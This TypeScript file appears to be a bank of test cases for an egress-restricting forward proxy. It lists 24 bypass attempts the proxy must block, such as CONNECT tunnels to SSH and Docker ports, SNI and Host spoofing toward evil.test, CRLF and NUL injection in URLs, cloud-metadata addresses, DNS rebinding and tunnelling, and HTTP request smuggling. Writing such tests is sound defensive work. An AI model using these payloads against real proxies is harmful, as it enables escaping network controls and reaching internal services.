import { clientHello, dnsQuery, http2Request, type LaneForms, type Place, type Probe, type Row } from './row.ts';
import { RESOLVER } from './world.ts';

const connect = (target: string, tag: string, then = ''): string =>
  `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\nX-Tag: ${tag}\r\n\r\n${then}`;
const absolute = (url: string, tag: string, host = 'lane'): string =>
  `GET ${url}/${tag} HTTP/1.1\r\nHost: ${host}\r\nX-Tag: ${tag}\r\nConnection: close\r\n\r\n`;
export const everywhere = ({ world }: Place, tag: string): Probe[] =>
  world.addresses.map((host) => ({ kind: 'tcp', host, port: world.port, say: tag }));
const CURL = ['curl', '-s', '-g', '--max-time', '3'];

/** Attacks that a forward proxy would fall for. Each must fail, and open no connection behind the lane. */
export const BANK_ROWS: readonly Row[] = [
  { id: 'P01', what: 'CONNECT allowed:22', lane: (_, tag) => [connect('allowed.test:22', tag, `SSH-2.0-${tag}\r\n`)] },
  {
    id: 'P02',
    what: 'CONNECT to port 2375 of the gateway',
    lane: (_, tag, { gateway }) => [
      connect(`${gateway.includes(':') ? `[${gateway}]` : gateway}:2375`, tag, `GET /${tag} HTTP/1.1\r\n\r\n`),
    ],
  },
  {
    id: 'P03',
    what: 'a tunnel to a, SNI b',
    lane: (_, tag) => [
      connect('allowed.test:443', tag, clientHello({ tag, name: `${tag}.evil.test` })),
      clientHello({ tag, name: `${tag}.evil.test` }),
    ],
  },
  {
    id: 'P04',
    what: 'TLS without SNI',
    lane: (_, tag) => [connect('allowed.test:443', tag, clientHello({ tag })), clientHello({ tag })],
  },
  {
    id: 'P05',
    what: 'SNI is an address',
    lane: (_, tag) => [
      connect('allowed.test:443', tag, clientHello({ tag, name: '127.0.0.1' })),
      clientHello({ tag, name: '127.0.0.1' }),
    ],
  },
  {
    id: 'P06',
    what: 'encrypted ClientHello',
    lane: (_, tag) => [
      connect('allowed.test:443', tag, clientHello({ tag, name: 'allowed.test', encrypted: true })),
      clientHello({ tag, name: 'allowed.test', encrypted: true }),
    ],
  },
  {
    id: 'P07',
    what: 'Host is c: in a tunnel refused, in a good request not read',
    answers: /^(200|40[34])$/,
    lane: (forms, tag) => [
      connect('allowed.test:80', tag, `GET / HTTP/1.1\r\nHost: ${tag}.evil.test\r\n\r\n`),
      forms.good({ host: `${tag}.evil.test`, say: tag, headers: 'Connection: close\r\n' }),
    ],
  },
  {
    id: 'P08',
    what: 'HTTP/2, :authority is c',
    lane: (_, tag) => [
      http2Request(`${tag}.evil.test`),
      connect('allowed.test:443', tag, http2Request(`${tag}.evil.test`)),
    ],
  },
  {
    id: 'P09',
    what: 'http://allowed@evil/',
    lane: (_, tag, { port }) => [
      absolute(`http://allowed.test@127.0.0.1:${port}`, tag),
      absolute(`http://allowed.test:x@evil.test:${port}`, tag),
    ],
  },
  {
    id: 'P10',
    what: 'http://allowed%00.evil/',
    lane: (_, tag, { port }) => [
      absolute(`http://127.0.0.1%00.allowed.test:${port}`, tag),
      absolute('http://allowed.test%00.evil.test', tag),
      absolute('http://allowed.test%0d%0aHost:evil.test', tag),
    ],
  },
  {
    id: 'P11',
    what: 'SOCKS, names with NUL',
    lane: (_, tag, { port }) => [socks(`localhost\0.${tag}.allowed.test`, port), socks(`${tag}.evil.test`, port)],
  },
  {
    id: 'P12',
    what: 'http://2130706433/ and other spellings of addresses',
    lane: (_, tag, { port }) =>
      ['2130706433', '0x7f000001', '0177.0.0.1', '127.1'].map((host) => absolute(`http://${host}:${port}`, tag)),
    direct: (tag, { port }) =>
      ['2130706433', '0x7f000001', '0177.0.0.1', '127.1'].map((host) => ({ kind: 'tcp', host, port, say: tag })),
  },
  {
    id: 'P13',
    what: '[::ffff:a9fe:a9fe]',
    lane: (_, tag, { port }) => [
      absolute('http://[::ffff:a9fe:a9fe]', tag),
      absolute(`http://[::ffff:7f00:1]:${port}`, tag),
    ],
    direct: (tag, { port }) => [
      { kind: 'tcp', host: '::ffff:169.254.169.254', port: 80, say: tag },
      { kind: 'tcp', host: '::ffff:127.0.0.1', port, say: tag },
    ],
  },
  {
    id: 'P14',
    what: 'a name whose address is private',
    lane: (_, tag) => [absolute(`http://private-${tag}.test`, tag)],
    direct: (tag) => [
      { kind: 'lookup', name: `private-${tag}.test` },
      { kind: 'tcp', host: `private-${tag}.test`, port: 80, say: tag },
    ],
  },
  {
    id: 'P15',
    what: 'a name that changes between two looks',
    lane: (_, tag) => [absolute(`http://flip-${tag}.test`, tag), absolute(`http://flip-${tag}.test`, tag)],
    direct: (tag, { port }) => [1, 2].map(() => ({ kind: 'tcp', host: `flip-${tag}.test`, port, say: tag })),
  },
  {
    id: 'P16',
    what: '302 to evil: not followed (services that redirect: below, C14)',
    control: 'own',
    elsewhere: 'C14',
  },
  {
    id: 'P17',
    what: 'Upgrade: websocket',
    lane: (forms, tag) => [
      `GET ${forms.path} HTTP/1.1\r\nHost: allowed.test\r\n${forms.headers}X-Tag: ${tag}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${Buffer.from(tag.padEnd(16)).toString('base64')}\r\n\r\n${tag}`,
    ],
  },
  {
    id: 'P18',
    what: 'QUIC Initial over UDP',
    direct: (tag, { world }) =>
      world.addresses.map((host) => ({
        kind: 'udp',
        host,
        port: world.datagramPort,
        say: `\xc3\0\0\0\x01\x14${tag.padEnd(20)}\0\0\x44\x9e${'\0'.repeat(1160)}`,
      })),
  },
  {
    id: 'P19',
    what: 'dig @ a resolver of its own',
    direct: (tag, { world }) => [
      { kind: 'lookup', name: `${tag}.test`, type: 'A', server: RESOLVER },
      ...[RESOLVER, ...world.addresses].map((host): Probe => ({
        kind: 'udp',
        host,
        port: host === RESOLVER ? 53 : world.datagramPort,
        say: dnsQuery(`${tag}.test`),
      })),
    ],
  },
  {
    id: 'P20',
    what: 'DNS over HTTPS',
    lane: (_, tag) => [
      `POST http://1.1.1.1/dns-query HTTP/1.1\r\nHost: 1.1.1.1\r\nX-Tag: ${tag}\r\nContent-Type: application/dns-message\r\nContent-Length: 4\r\nConnection: close\r\n\r\nabcd`,
    ],
    direct: (tag, { world }) =>
      world.addresses.map((host) => ({
        kind: 'run',
        argv: [
          ...CURL,
          '-H',
          'accept: application/dns-json',
          `http://${host.includes(':') ? `[${host}]` : host}:${world.port}/dns-query?name=${tag}.test`,
        ],
      })),
  },
  {
    id: 'P21',
    what: 'TXT tunnel through the resolver of the machine',
    direct: (tag) =>
      ['TXT', 'NULL', 'CNAME', 'MX', 'A', 'AAAA']
        .filter((type) => type !== 'NULL')
        .map((type) => ({ kind: 'lookup', name: `${Buffer.from(tag).toString('hex')}.${tag}.tunnel.test`, type })),
  },
  {
    id: 'P22',
    what: '10 000 labels of names',
    direct: (tag) =>
      Array.from({ length: 250 }, (_, index) => ({
        kind: 'lookup',
        name: `${tag}.${Array.from({ length: 39 }, (__, label) => `x${index}y${label}`.slice(0, 5)).join('.')}`,
        type: 'A',
      })),
  },
  {
    id: 'P23',
    what: 'a pipelined second request to another host',
    answers: /^(|(200|4\d\d)( 4\d\d)?)$/,
    lane: (forms, tag, { port }) => [
      `${forms.good({ say: 'first' })}${absolute(`http://127.0.0.1:${port}`, tag, `127.0.0.1:${port}`)}`,
      `${forms.good({ say: 'first' })}${connect('evil.test:443', tag, tag)}`,
    ],
  },
  {
    id: 'P24',
    what: 'chunked smuggling',
    lane: (forms, tag, { port }) => {
      const smuggled = absolute(`http://127.0.0.1:${port}`, tag);
      const head = `POST ${forms.path} HTTP/1.1\r\nHost: lane\r\n${forms.headers}`;
      return [
        `${head}Content-Length: ${smuggled.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
        `${head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n${smuggled}`,
        `${head}Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\nabcd${smuggled}`,
      ];
    },
  },
];

function socks(name: string, port: number): string {
  return `\x05\x01\0\x05\x01\0\x03${String.fromCharCode(name.length)}${name}${String.fromCharCode(port >> 8, port & 255)}`;
}

export type { LaneForms };
export { absolute, connect, CURL };
